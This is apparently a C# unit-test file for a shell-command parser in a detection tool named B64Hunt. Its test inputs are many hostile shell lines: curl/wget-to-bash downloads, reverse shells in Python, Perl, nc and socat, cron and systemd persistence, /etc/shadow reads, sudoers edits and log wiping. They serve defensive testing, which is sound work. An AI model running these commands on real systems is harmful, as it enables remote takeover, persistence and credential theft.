using System.Linq;
using B64Hunt.Shell;
using Xunit;

namespace B64Hunt.Tests.Shell
{
    public class ShellCommandReaderTests
    {
        private static string[] Names(string text) => ShellCommandReader.ReadUncached(text).Select(c => c.CommandName).ToArray();

        private static SimpleCommand Single(string text, string name) =>
            Assert.Single(ShellCommandReader.ReadUncached(text), c => c.CommandName == name);

        [Theory]
        [InlineData("cd /tmp; wget http://1.2.3.4/x && chmod +x x || rm -f x & echo done", new[] { "cd", "wget", "chmod", "rm", "echo" })]
        [InlineData("curl -s http://evil.example/a.sh | bash", new[] { "curl", "bash" })]
        [InlineData("uname -a\nid\n\nwhoami", new[] { "uname", "id", "whoami" })]
        [InlineData("(cd /tmp && ./run) ; { ps aux; netstat -an; }", new[] { "cd", "run", "ps", "netstat" })]
        [InlineData("if [ -f /tmp/x ]; then rm /tmp/x; else touch /tmp/x; fi", new[] { "[", "rm", "touch" })]
        [InlineData("for i in 1 2 3; do ping -c1 10.0.0.$i; done", new[] { "ping" })]
        [InlineData("while true; do sleep 60; done", new[] { "true", "sleep" })]
        [InlineData("case $1 in start) nohup ./miner & ;; stop) pkill miner ;; esac", new[] { "miner", "pkill" })]
        [InlineData("f() { curl x; }; f", new[] { "curl", "f" })]
        [InlineData("function g { wget y; }", new[] { "wget" })]
        public void SplitsListsPipelinesGroupsAndControlFlow(string text, string[] expected)
        {
            Assert.Equal(expected, Names(text));
        }

        [Fact]
        public void CommandWordIsTheBasenameAfterAssignments()
        {
            var c = Single("HOME=/tmp LANG=C /usr/bin/curl -fsSL http://x/y -o /tmp/y", "curl");
            Assert.Equal("/usr/bin/curl", c.InvokedAs);
            Assert.Equal(new[] { "HOME=/tmp", "LANG=C" }, c.Assignments);
            Assert.Equal(new[] { "-fsSL", "http://x/y", "-o", "/tmp/y" }, c.Arguments);
            Assert.True(c.IsPath);
            Assert.False(c.IsBuiltin);
        }

        [Fact]
        public void QuotesAreRemovedAndAnsiCDecoded()
        {
            var c = Assert.Single(ShellCommandReader.ReadUncached("$'\\x63\\x75\\x72\\x6c' 'http://a b' \"c\"d e\\ f"));
            Assert.Equal("curl", c.CommandName);
            Assert.Equal(new[] { "http://a b", "cd", "e f" }, c.Arguments);
        }

        [Theory]
        [InlineData("sudo -u root -E vim /etc/hosts", "vim", new[] { "sudo" })]
        [InlineData("env -i PATH=/bin HOME=/ python3 x.py", "python3", new[] { "env" })]
        [InlineData("nohup timeout 10s nice -n 19 ./xmrig -o pool", "xmrig", new[] { "nohup", "timeout", "nice" })]
        [InlineData("echo a | xargs -I{} -P 4 curl {}", "curl", new[] { "xargs" })]
        [InlineData("busybox wget http://x", "wget", new[] { "busybox" })]
        [InlineData("exec -a kworker /tmp/.x/bin", "bin", new[] { "exec" })]
        [InlineData("command -p tar cf x.tar /etc", "tar", new[] { "command" })]
        [InlineData("chroot /mnt /bin/sh -i", "sh", new[] { "chroot" })]
        [InlineData("stdbuf -oL setsid ionice -c 3 doas -u root nc 1.2.3.4 80", "nc", new[] { "stdbuf", "setsid", "ionice", "doas" })]
        [InlineData("time -p nice -5 make", "make", new[] { "nice" })]
        public void WrappersAreSteppedOver(string text, string command, string[] wrappers)
        {
            var c = ShellCommandReader.ReadUncached(text).First(x => x.CommandName == command);
            Assert.Equal(wrappers, c.Wrappers);
        }

        [Fact]
        public void CommandDashVOnlyLooksUp()
        {
            var c = Assert.Single(ShellCommandReader.ReadUncached("command -v curl"));
            Assert.Equal("command", c.CommandName);
            Assert.True(c.IsBuiltin);
        }

        [Fact]
        public void WrapperWithNothingToRunIsTheCommand()
        {
            Assert.Equal(new[] { "sudo" }, Names("sudo -i"));
            Assert.Equal(new[] { "env" }, Names("env"));
        }

        [Theory]
        [InlineData("cat /tmp/cpu", new[] { "cat" })]
        [InlineData("sed -i s/a/b/ x", new[] { "sed" })]
        [InlineData("format-disk --all", new[] { "format-disk" })]
        [InlineData("cat /etc/passwd", new[] { "cat" })]
        [InlineData("grep -r rm /opt/scripts", new[] { "grep" })]
        public void MatchesWordsNeverSubstrings(string text, string[] expected)
        {
            Assert.Equal(expected, Names(text));
        }

        [Fact]
        public void ShebangAndCommentsAreNotInvocations()
        {
            Assert.Equal(new[] { "id" }, Names("#!/bin/bash\n# curl http://x | sh\nid # wget y"));
        }

        [Fact]
        public void KeywordsAreStructureAndBuiltinsAreMarked()
        {
            var commands = ShellCommandReader.ReadUncached("export HISTFILE=/dev/null; unset HISTFILE; history -c; cd /; echo hi; kill -9 1; ls");
            Assert.Equal(new[] { "export", "unset", "history", "cd", "echo", "kill", "ls" }, commands.Select(c => c.CommandName));
            Assert.All(commands.Take(6), c => Assert.True(c.IsBuiltin));
            Assert.False(commands[6].IsBuiltin);
        }

        [Fact]
        public void BareAssignmentsAndRedirectionsAreKept()
        {
            var commands = ShellCommandReader.ReadUncached("HISTSIZE=0; > /var/log/auth.log");
            Assert.Equal(new[] { "HISTSIZE=0" }, commands[0].Assignments);
            Assert.Equal("", commands[0].CommandName);
            Assert.Equal("/var/log/auth.log", commands[1].Redirections[0].Target);
            Assert.True(commands[1].Redirections[0].IsOutput);
        }

        [Fact]
        public void SubstitutionsAreNestedCode()
        {
            var commands = ShellCommandReader.ReadUncached("echo \"$(whoami)@`hostname`\" > /tmp/o; cat <(curl -s http://x)");
            var who = Single("echo \"$(whoami)@`hostname`\" > /tmp/o; cat <(curl -s http://x)", "whoami");
            Assert.Equal(CommandOrigin.CommandSubstitution, who.Origin);
            Assert.Equal("echo", who.Parent!.CommandName);
            var curl = commands.Single(c => c.CommandName == "curl");
            Assert.Equal(CommandOrigin.ProcessSubstitution, curl.Origin);
            Assert.Equal("cat", curl.Parent!.CommandName);
            Assert.Contains(commands, c => c.CommandName == "hostname");
        }

        [Theory]
        [InlineData("bash -c 'curl -s http://x | sh'", "curl")]
        [InlineData("sh -c \"wget -q http://x -O- | sh\"", "wget")]
        [InlineData("/bin/bash -lc 'id'", "id")]
        [InlineData("zsh -c -- 'uname -a'", "uname")]
        [InlineData("sudo sh -c 'echo x >> /etc/sudoers'", "echo")]
        [InlineData("su root -c 'cat /etc/shadow'", "cat")]
        [InlineData("su -c \"useradd -m bob\" root", "useradd")]
        [InlineData("eval \"$(echo Y3VybA== | base64 -d)\"", "base64")]
        [InlineData("eval 'nc -lp 4444'", "nc")]
        [InlineData("env -S 'python3 -V'", "python3")]
        public void ShellStringsAndEvalAreRead(string text, string nested)
        {
            var commands = ShellCommandReader.ReadUncached(text);
            var c = commands.First(x => x.CommandName == nested);
            Assert.True(c.IsNested);
            Assert.True(c.Depth >= 1);
        }

        [Fact]
        public void ShellStringIsNotReadTwice()
        {
            var commands = ShellCommandReader.ReadUncached("bash -c \"$(curl -fsSL http://x/i.sh)\"");
            Assert.Single(commands, c => c.CommandName == "curl");
        }

        [Theory]
        [InlineData("python3 -c 'import os;os.system(\"curl http://x|sh\")'", new[] { "curl", "sh" })]
        [InlineData("python -c \"import subprocess;subprocess.call(['/bin/bash','-c','id'])\"", new[] { "bash", "id" })]
        [InlineData("python -c 'import pty;pty.spawn(\"/bin/bash\")'", new[] { "bash" })]
        [InlineData("python3 -c \"import os; print(os.popen('uname -a').read())\"", new[] { "uname" })]
        [InlineData("python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'", new[] { "sh" })]
        [InlineData("python3 -c \"import os;os.execl('/bin/sh','sh','-c','wget http://x')\"", new[] { "sh", "wget" })]
        [InlineData("perl -e 'system(\"wget http://x/a -O /tmp/a\")'", new[] { "wget" })]
        [InlineData("perl -MIO -e '$p=fork;exec \"/bin/sh -i\";'", new[] { "sh" })]
        [InlineData("perl -e 'print `id`'", new[] { "id" })]
        [InlineData("perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'", new[] { "sh" })]
        [InlineData("ruby -rsocket -e 'exec \"/bin/sh\"'", new[] { "sh" })]
        [InlineData("php -r 'system(\"id\");'", new[] { "id" })]
        [InlineData("awk 'BEGIN {system(\"/bin/sh\")}'", new[] { "sh" })]
        [InlineData("node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 1.2.3.4 4444\")'", new[] { "nc", "sh" })]
        public void InterpreterCodeHandingStringsToTheSystemIsRead(string text, string[] nested)
        {
            var commands = ShellCommandReader.ReadUncached(text);
            var found = commands.Where(c => c.IsNested).Select(c => c.CommandName).ToArray();
            Assert.Equal(nested, found);
        }

        [Fact]
        public void FindExecNcExecAndSocatExecAreRead()
        {
            Assert.Contains("rm", Names("find /var/log -name '*.log' -exec rm -f {} \\;"));
            var sh = Single("nc -e /bin/sh 10.0.0.1 4444", "sh");
            Assert.Equal(CommandOrigin.NetworkExec, sh.Origin);
            Assert.Contains("bash", Names("socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid"));
        }

        [Fact]
        public void HereDocumentBodyIsDataUnlessFedToAShell()
        {
            Assert.Equal(new[] { "cat" }, Names("cat > /tmp/notes <<EOF\nrm -rf /\nEOF\n"));
            var commands = ShellCommandReader.ReadUncached("bash <<'EOF'\ncurl -s http://x | sh\nEOF\nid");
            Assert.Equal(new[] { "bash", "curl", "sh", "id" }, commands.Select(c => c.CommandName));
            Assert.Equal(CommandOrigin.HereDocument, commands[1].Origin);
            Assert.Equal(new[] { "bash", "wget" }, Names("bash <<< 'wget http://x'"));
            Assert.Equal(new[] { "python3", "bash" }, Names("python3 - <<EOF\nimport pty; pty.spawn('/bin/bash')\nEOF"));
            Assert.Equal(new[] { "cat", "ls" }, Names("cat <<-END\n\trm x\n\tEND\nls"));
        }

        [Theory]
        [InlineData("echo \"* * * * * curl -s http://x/a.sh | bash\" >> /etc/crontab", new[] { "curl", "bash" })]
        [InlineData("(crontab -l 2>/dev/null; echo '*/5 * * * * wget -q -O- http://x | sh') | crontab -", new[] { "wget", "sh" })]
        [InlineData("crontab -l | { cat; echo \"@reboot /tmp/.x/run\"; } | crontab -", new[] { "run" })]
        [InlineData("echo '*/10 * * * * root /usr/bin/python3 /tmp/a.py' > /etc/cron.d/upd", new[] { "python3" })]
        [InlineData("echo '@reboot www-data wget -q http://x -O /tmp/w' >> /etc/crontab", new[] { "wget" })]
        [InlineData("echo '* * * * * nc 1.2.3.4 80 -e /bin/sh' | sudo tee -a /var/spool/cron/crontabs/root", new[] { "nc", "sh" })]
        [InlineData("printf '[Service]\\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1\"\\n' > /etc/systemd/system/x.service", new[] { "bash", "bash" })]
        [InlineData("cat > /etc/systemd/system/upd.service <<EOF\n[Service]\nExecStart=-/opt/.x/xmrig --donate-level 1\nEOF", new[] { "xmrig" })]
        [InlineData("echo 'curl http://x|sh' >> ~/.bashrc", new[] { "curl", "sh" })]
        [InlineData("crontab <<EOF\n0 * * * * /usr/bin/wget http://x\nEOF", new[] { "wget" })]
        [InlineData("cat <<'EOF' | bash\nwget -q http://x -O- | sh\nEOF", new[] { "wget", "sh" })]
        [InlineData("tee /etc/cron.d/sync <<EOF >/dev/null\nSHELL=/bin/sh\n*/2 * * * * root curl -s http://x | sh\nEOF", new[] { "curl", "sh" })]
        public void WrittenCronLinesUnitFilesAndScriptsAreRead(string text, string[] nested)
        {
            var commands = ShellCommandReader.ReadUncached(text);
            var found = commands.Where(c => c.IsNested)
                .Select(c => c.CommandName).ToArray();
            Assert.Equal(nested, found);
        }

        [Fact]
        public void WrittenCodeIsDeferredPipedCodeIsNot()
        {
            var cron = ShellCommandReader.ReadUncached("echo '* * * * * bash -c \"curl x\"' >> /etc/crontab");
            Assert.True(cron.Single(c => c.CommandName == "curl").IsDeferred);
            Assert.False(cron.Single(c => c.CommandName == "echo").IsDeferred);
            var piped = ShellCommandReader.ReadUncached("echo 'curl x' | bash");
            var curl = piped.Single(c => c.CommandName == "curl");
            Assert.Equal(CommandOrigin.StandardInput, curl.Origin);
            Assert.False(curl.IsDeferred);
        }

        [Fact]
        public void PipesAreLinkedAcrossGroups()
        {
            var commands = ShellCommandReader.ReadUncached("crontab -l | { cat; echo x; } | crontab -");
            var echo = commands.Single(c => c.CommandName == "echo");
            Assert.Equal("crontab", echo.PipesTo!.CommandName);
            Assert.Equal(new[] { "-" }, echo.PipesTo.Arguments);
            var sh = Single("wget -qO- http://x | sudo sh", "sh");
            Assert.Equal("wget", Assert.Single(sh.PipedFrom).CommandName);
        }

        [Fact]
        public void TextIsTheSliceOfTheCommand()
        {
            var commands = ShellCommandReader.ReadUncached("cd /tmp && wget http://x/a  -O a ;chmod +x a");
            Assert.Equal(new[] { "cd /tmp", "wget http://x/a  -O a", "chmod +x a" }, commands.Select(c => c.Text));
        }

        [Fact]
        public void PathologicalInputStaysBounded()
        {
            string deep = string.Concat(Enumerable.Repeat("bash -c \"", 40)) + "id";
            var commands = ShellCommandReader.ReadUncached(deep);
            Assert.True(commands.Count <= ShellReadSession.MaxDepth + 2);
            string many = string.Concat(Enumerable.Repeat("a;", 10000));
            Assert.Equal(ShellReadSession.MaxCommands, ShellCommandReader.ReadUncached(many).Count);
            Assert.Equal(new[] { "echo" }, Names("echo $((((((1+2)))))) \"unclosed"));
            // nesting that would exhaust the stack if read recursively
            Assert.Contains("id", Names(string.Concat(Enumerable.Repeat("( { ", 50000)) + "id"));
            var deepSubstitutions = Names(string.Concat(Enumerable.Repeat("$(", 50000)) + "id"); // past MaxDepth: not read, no crash
            Assert.DoesNotContain("id", deepSubstitutions);
            Assert.True(deepSubstitutions.Length <= ShellReadSession.MaxDepth + 1);
            Assert.Contains("id", Names(string.Concat(Enumerable.Repeat("$(", ShellReadSession.MaxDepth)) + "id" + new string(')', ShellReadSession.MaxDepth)));
        }

        [Fact]
        public void ReadIsCachedAndEmptyIsEmpty()
        {
            Assert.Empty(ShellCommandReader.Read(""));
            Assert.Empty(ShellCommandReader.Read(null));
            var a = ShellCommandReader.Read("id; uname -a");
            Assert.Same(a, ShellCommandReader.Read("id; uname -a"));
        }
    }
}
